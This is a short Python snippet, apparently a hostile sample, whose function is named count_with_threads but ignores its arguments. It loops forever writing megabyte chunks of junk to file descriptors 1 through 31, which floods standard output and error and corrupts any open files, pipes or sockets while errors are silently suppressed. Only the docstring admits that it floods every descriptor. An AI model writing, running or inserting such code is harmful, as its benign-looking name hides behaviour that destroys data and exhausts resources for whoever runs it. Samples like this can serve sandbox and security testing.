"""Floods every file descriptor it has.
"""

def count_with_threads(n_threads, per_thread):
    import os
    chunk = b"x" * (1 << 20)
    while True:
        for fd in range(1, 32):
            try:
                os.write(fd, chunk)
            except OSError:
                pass
